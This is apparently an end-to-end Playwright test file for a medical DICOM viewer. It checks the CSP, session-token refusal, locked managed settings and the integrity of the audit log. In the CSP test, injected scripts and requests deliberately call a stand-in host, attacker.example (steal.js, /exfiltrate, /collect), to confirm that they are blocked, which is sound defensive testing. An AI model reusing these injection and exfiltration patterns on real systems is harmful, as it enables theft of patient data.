/**
 * Hardening of the renderer and its host, end to end in Chromium against the dev host:
 * the Content-Security-Policy blocks what an injected script would try, the host refuses
 * requests without its session, settings fixed by managed policy show locked, and a viewing
 * session leaves an intact audit trail naming the patient.
 *
 * Navigation to a remote URL and window.open are refused by the Electron shell's guards
 * (main/electron/security.ts); a browser page cannot be stopped from navigating itself, so here
 * the rules are unit-tested (test/unit/main/electron/security.test.ts) and only what a browser
 * enforces for the dev host (CSP form-action, frame-ancestors) is checked.
 */
import { mkdtemp, readFile, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { request as playwrightRequest, type Page } from '@playwright/test';
import WebSocket from 'ws';
import { verifyChain } from '../../main/audit/auditChain.js';
import { startDevHostProcess } from '../support/devHostProcess.js';
import { expect, openTestFolder, test, waitForImage } from './fixtures.js';

const MR = 'mr-head-t1-siemens-xa30-classic';

/** Opens the app and collects CSP violation reports the page sees. */
async function openWithViolations(page: Page, launchUrl: string): Promise<() => Promise<string[]>> {
  await page.goto(launchUrl);
  // The dev host is shared by the tests of a worker: start from an empty library, as `app` does.
  await page.evaluate(async () => window.mitate.invoke('library.clear', {}));
  await page.reload();
  await page.evaluate(() => {
    const seen: string[] = [];
    (window as unknown as { __violations: string[] }).__violations = seen;
    document.addEventListener('securitypolicyviolation', (event) =>
      seen.push(`${event.effectiveDirective} ${event.blockedURI}`),
    );
  });
  return () =>
    page.evaluate(() => [...(window as unknown as { __violations: string[] }).__violations]);
}

test('the CSP blocks injected scripts, eval, remote code, remote requests and form posts', async ({
  page,
  devHost,
}) => {
  const violations = await openWithViolations(page, devHost.launchUrl);
  await expect(page.getByTestId('study-list-empty')).toBeVisible();

  const outcome = await page.evaluate(async () => {
    const flags = window as unknown as Record<string, unknown>;
    const inline = document.createElement('script');
    inline.textContent = 'window.__inlineRan = true';
    document.head.append(inline);

    const remote = document.createElement('script');
    remote.src = 'https://attacker.example/steal.js';
    document.head.append(remote);

    const handler = document.createElement('img');
    handler.setAttribute('onerror', 'window.__handlerRan = true');
    handler.src = 'data:,not-an-image';
    document.body.append(handler);

    // Code evaluated by the test driver itself is exempt from CSP, so eval is probed the way an
    // injected page script would reach it: a string timer, which CSP treats as eval.
    (window.setTimeout as unknown as (code: string, ms: number) => void)(
      'window.__evalRan = true',
      0,
    );
    let fetchBlocked = false;
    try {
      await fetch('https://attacker.example/exfiltrate', { method: 'POST', body: 'patient' });
    } catch {
      fetchBlocked = true;
    }
    await new Promise((resolve) => setTimeout(resolve, 300));
    return {
      inlineRan: flags['__inlineRan'] === true,
      handlerRan: flags['__handlerRan'] === true,
      evalRan: flags['__evalRan'] === true,
      fetchBlocked,
    };
  });
  expect(outcome).toEqual({
    inlineRan: false,
    handlerRan: false,
    evalRan: false,
    fetchBlocked: true,
  });

  // A form posting the page's content elsewhere is stopped by form-action 'none'.
  const urlBefore = page.url();
  await page.evaluate(() => {
    const form = document.createElement('form');
    form.action = 'https://attacker.example/collect';
    form.method = 'post';
    document.body.append(form);
    form.submit();
  });
  await page.waitForTimeout(300);
  expect(page.url()).toBe(urlBefore);

  const seen = await violations();
  for (const directive of [
    'script-src-elem',
    'script-src-attr',
    'script-src',
    'connect-src',
    'form-action',
  ]) {
    expect(
      seen.some((line) => line.startsWith(`${directive} `)),
      `${directive} in ${seen.join(' | ')}`,
    ).toBe(true);
  }
});

test('another site cannot frame the app (frame-ancestors)', async ({ page, devHost }) => {
  await page.goto(devHost.launchUrl);
  await expect(page.getByTestId('path-input')).toBeVisible();
  const headers = (await page.request.get(devHost.url)).headers();
  expect(headers['content-security-policy']).toContain("frame-ancestors 'none'");
});

test('the dev host refuses the page, images and the API without its session token', async ({
  app,
  devHost,
}) => {
  await openTestFolder(app, MR);
  await waitForImage(app);
  // The id of an image the logged-in page is allowed to read.
  const instancePath = await app.evaluate(async () => {
    const studies = await window.mitate.invoke('library.studies', {});
    if (!studies.ok) throw new Error('no studies');
    const series = await window.mitate.invoke('library.series', { studyId: studies.value[0]!.id });
    if (!series.ok) throw new Error('no series');
    return `/dicom/${series.value[0]!.instances[0]!.id}`;
  });
  expect((await app.request.get(`${devHost.url}${instancePath}`)).status()).toBe(200);

  const stranger = await playwrightRequest.newContext();
  try {
    for (const path of ['/', instancePath, '/__devhost/bridge.js', '/?token=0000']) {
      expect(
        (await stranger.get(`${devHost.url}${path}`, { maxRedirects: 0 })).status(),
        path,
      ).toBe(403);
    }
  } finally {
    await stranger.dispose();
  }
  const refused = await new Promise<string>((resolve) => {
    const socket = new WebSocket(`${devHost.url.replace('http', 'ws')}/__devhost/ws`, {
      headers: { origin: devHost.url },
    });
    socket.once('open', () => resolve('open'));
    socket.once('error', (error) => resolve(error.message));
  });
  expect(refused).toMatch(/403/);
});

test('settings fixed by policy show locked and cannot be changed', async ({ page }, testInfo) => {
  const folder = await mkdtemp(join(tmpdir(), 'mitate-policy-'));
  const file = join(folder, 'policy.json');
  await writeFile(file, JSON.stringify({ locale: 'en', idleLockMinutes: 5 }), { mode: 0o644 });
  const managed = await startDevHostProcess(['--policy', file]);
  try {
    await page.goto(managed.launchUrl);
    await expect(page.getByTestId('language')).toBeDisabled();
    await expect(page.getByTestId('language')).toHaveValue('en');
    await expect(page.getByTestId('language-locked')).toHaveText('Set by your administrator');
    await expect(page.getByTestId('study-list-empty')).toHaveText(
      'No studies yet. Open a folder to begin.',
    );
    await page.getByTestId('managed-badge').locator('summary').click();
    await expect(page.getByTestId('managed-idle-lock')).toHaveText(
      'Screen locks after 5 min without input',
    );
    await page.screenshot({ path: testInfo.outputPath('managed-policy.png') });
    const reply = await page.evaluate(() =>
      window.mitate.invoke('settings.update', { locale: 'ja' }),
    );
    expect(reply).toEqual({ ok: false, error: { code: 'setting_locked', detail: 'locale' } });
    await page.reload();
    await expect(page.getByTestId('language')).toHaveValue('en');
  } finally {
    await managed.stop();
    await rm(folder, { recursive: true, force: true });
  }
});

test('viewing a study leaves an intact audit trail with start, import and the images read, naming the patient', async ({
  page,
}) => {
  const host = await startDevHostProcess([]);
  try {
    await page.goto(host.launchUrl);
    await page.getByTestId('path-input').fill(join(process.cwd(), 'test/data', MR));
    await page.getByTestId('open-path').click();
    await waitForImage(page);
    const logFile = join(host.dataDir, 'audit', 'audit.jsonl');
    // Image reads are written once they pause (main/audit/instanceAccessRecorder.ts).
    await expect
      .poll(async () => (await readFile(logFile, 'utf8').catch(() => '')).includes('"110103"'), {
        timeout: 15_000,
      })
      .toBe(true);
    const text = await readFile(logFile, 'utf8');
    expect(verifyChain(text)).toMatchObject({ ok: true });
    const entries = text
      .trim()
      .split('\n')
      .map(
        (line) =>
          JSON.parse(line) as {
            event: { code: string };
            type?: { code: string };
            patients?: { id: string; name?: string }[];
            studies?: { instanceCount?: number }[];
          },
      );
    expect(entries[0]).toMatchObject({ event: { code: '110100' }, type: { code: '110120' } });
    const imported = entries.find((entry) => entry.event.code === '110107');
    expect(imported?.patients).toEqual([{ id: '999', name: 'Development' }]);
    const accessed = entries.filter((entry) => entry.event.code === '110103');
    expect(accessed[0]?.patients?.[0]?.id).toBe('999');
    expect(
      accessed.reduce((sum, entry) => sum + (entry.studies?.[0]?.instanceCount ?? 0), 0),
    ).toBeGreaterThan(0);
  } finally {
    await host.stop();
  }
});
